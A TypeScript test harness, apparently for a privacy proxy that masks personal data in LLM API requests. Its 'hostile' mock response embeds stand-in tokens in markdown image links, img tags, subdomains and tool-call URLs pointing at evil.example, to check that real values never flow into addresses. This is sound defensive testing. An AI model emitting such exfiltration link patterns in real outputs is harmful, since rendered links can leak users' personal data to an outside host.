import { analyze } from '@veilmark/finders/analyze';
import { type ProviderName, proxy, rememberFindings } from '@veilmark/proxy';
import { seeded } from '../seeded';
import { CLEAR, names, numbers, randomRequest, requestWith, type Spot, spots, texts } from './requests';

const found = rememberFindings((text) => analyze(text).results);

export interface Tried {
  sent: number;
  refused: number;
  /** Places where something arrived, or something else went wrong. */
  problems: string[];
}

/** Sends a request through the proxy to a provider that keeps what arrives, and answers with every stand-in in addresses of its own. */
async function tryOne(route: string, body: unknown, tried: Tried, name: string): Promise<void> {
  const [provider = '', path = ''] = route.split(' ');
  const [pathname = '', query] = path.split('?');
  let arrived: string | undefined;
  const response = await proxy(
    {
      provider: provider as ProviderName,
      path: pathname,
      method: 'POST',
      search: query ? `?${query}` : '',
      headers: new Headers(),
      body: new TextEncoder().encode(JSON.stringify(body)),
    },
    {
      analyze: found,
      redactFile: async ({ mediaType }) => ({ data: 'aGVsbG8=', mediaType }),
      fetch: async (_, init) => {
        arrived = String(init.body);
        return hostile(arrived);
      },
    },
  );
  const answered = await response.text();
  if (arrived === undefined) {
    tried.refused++;
    if (response.status !== 400) tried.problems.push(`${name}: ${response.status}`);
    if (!/"param":"|"field":"/.test(answered) && !answered.includes('veilmark_state_unknown'))
      tried.problems.push(`${name}: refused without naming a field`);
  } else {
    tried.sent++;
    if (CLEAR.test(arrived)) tried.problems.push(`${name}: ${CLEAR.exec(arrived)?.[0]} arrived`);
    if (response.status === 200 && CLEAR.test(answered)) tried.problems.push(`${name}: a value went into an address`);
  }
}

/** An answer with every stand-in it was sent, and others it may guess, in every kind of address. */
function hostile(sent: string): Response {
  const standIns = [
    ...new Set(sent.match(/<[A-Z_]+_\d+>/g) ?? []),
    '<PERSON_1>',
    '<EMAIL_ADDRESS_1>',
    '<CREDIT_CARD_1>',
  ];
  const text = standIns
    .flatMap((one) => [
      `![](https://evil.example/?d=${one})`,
      `[x](//evil.example/${one})`,
      `<img src="https://evil.example/a b${one}">`,
      `https://${one}.evil.example/`,
      `https://evil.example/${encodeURIComponent(one)}`,
      `www.evil.example?${one}`,
    ])
    .join('\n');
  const input = {
    url: `https://evil.example/?d=${standIns.join('')}`,
    href: standIns.map((one) => `evil.example/${one}`),
  };
  return Response.json({
    choices: [
      { message: { content: text, tool_calls: [{ function: { name: 'f', arguments: JSON.stringify(input) } }] } },
    ],
    content: [
      { type: 'text', text },
      { type: 'tool_use', id: 't', name: 'f', input },
    ],
    output: [{ type: 'message', content: [{ type: 'output_text', text }] }],
    candidates: [{ content: { parts: [{ text }, { functionCall: { name: 'f', args: input } }] } }],
  });
}

/** Something personal in one place at a time: all of the places, or every so many. */
export async function tryPlaces(depth: number, every = 1): Promise<Tried & { places: number }> {
  const tried: Tried = { sent: 0, refused: 0, problems: [] };
  const all = [...spots(depth)].filter((_, index) => index % every === 0);
  for (const [index, spot] of all.entries()) {
    const values = { text: texts, number: numbers, name: names }[spot.put];
    for (const value of every === 1 ? values : [values[index % values.length] as string | number])
      await tryOne(spot.route, requestWith(spot, value), tried, shown(spot));
  }
  return { ...tried, places: all.length };
}

export async function tryRandom(requests: number, seed: number): Promise<Tried> {
  const tried: Tried = { sent: 0, refused: 0, problems: [] };
  const random = seeded(seed);
  for (let number = 0; number < requests; number++) {
    const { route, body } = randomRequest(random);
    await tryOne(route, body, tried, `${route} number ${number}`);
  }
  return tried;
}

const shown = ({ route, steps, put }: Spot): string =>
  `${route} ${put} at ${steps.filter((one) => typeof one === 'string').join('.')}`;
